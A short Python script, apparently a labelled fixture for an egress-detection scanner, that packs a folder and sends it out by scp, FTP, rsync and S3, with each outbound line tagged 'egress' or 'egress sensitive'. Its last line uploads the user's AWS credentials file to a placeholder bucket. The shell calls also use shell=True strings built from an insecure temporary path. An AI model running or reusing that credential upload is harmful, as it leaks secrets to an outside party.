import os
import subprocess
import tarfile
import tempfile
from ftplib import FTP_TLS

TARGET = "backup.example.com"


def pack(folder):
    name = tempfile.mktemp(".tgz")
    with tarfile.open(name, "w:gz") as t:
        t.add(folder)
    return name


def push(folder):
    f = pack(folder)
    subprocess.check_call(f"scp {f} backup@{TARGET}:/srv/", shell=True)  # egress
    ftp = FTP_TLS(TARGET, "u", os.environ["FTP_PASS"])  # egress sensitive
    with open(f, "rb") as fh:
        ftp.storbinary("STOR " + os.path.basename(f), fh)  # egress sensitive
    subprocess.run(["rsync", "-az", folder, "rsync.net:data"])  # egress
    subprocess.run("aws s3 cp ~/.aws/credentials s3://x/", shell=True)  # egress sensitive
